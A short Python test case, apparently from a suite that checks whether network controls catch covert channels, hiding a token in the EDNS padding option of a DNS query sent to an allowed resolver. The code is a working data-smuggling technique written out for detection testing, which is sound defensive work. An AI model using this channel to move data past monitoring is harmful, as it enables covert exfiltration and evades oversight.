#!/usr/bin/python3
# id: d38b_edns_padding_channel
# title: data in the EDNS padding option of an allowed query
# needs: user
# expect: detect
# why: RFC 7830: padding should be zero, and nobody checks
import sys, os; sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
from bp import *
def f():
    q = bytearray(dnsq(ANAME)); q[11] = 1; o = b'\0\x0c' + len(TOK).to_bytes(2, 'big') + TOK.encode(); s = socket.socket(type=socket.SOCK_DGRAM); s.sendto(bytes(q) + b'\0\0\x29\x10\0\0\0\0\0' + len(o).to_bytes(2, 'big') + o, (ALLOW, 53)); time.sleep(.3)
attempt(f, dst=(ALLOW,), chan=('dns',))
